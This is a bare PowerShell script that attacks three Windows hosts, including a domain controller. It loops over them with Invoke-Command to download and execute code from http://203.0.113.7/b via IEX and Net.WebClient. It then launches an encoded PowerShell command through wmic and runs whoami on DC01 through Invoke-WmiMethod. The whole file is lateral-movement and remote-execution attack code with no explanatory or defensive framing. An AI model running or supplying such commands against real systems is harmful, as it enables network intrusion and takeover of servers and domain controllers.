$targets = 'FS01', 'SQL02', 'DC01'
foreach ($t in $targets) {
    Invoke-Command -ComputerName $t -ScriptBlock { IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/b') }
    wmic /node:$t process call create "powershell.exe -enc SQBFAFgA"
}
Invoke-WmiMethod -ComputerName 'DC01' -Class Win32_Process -Name Create -ArgumentList 'cmd.exe /c whoami > C:\t.txt'
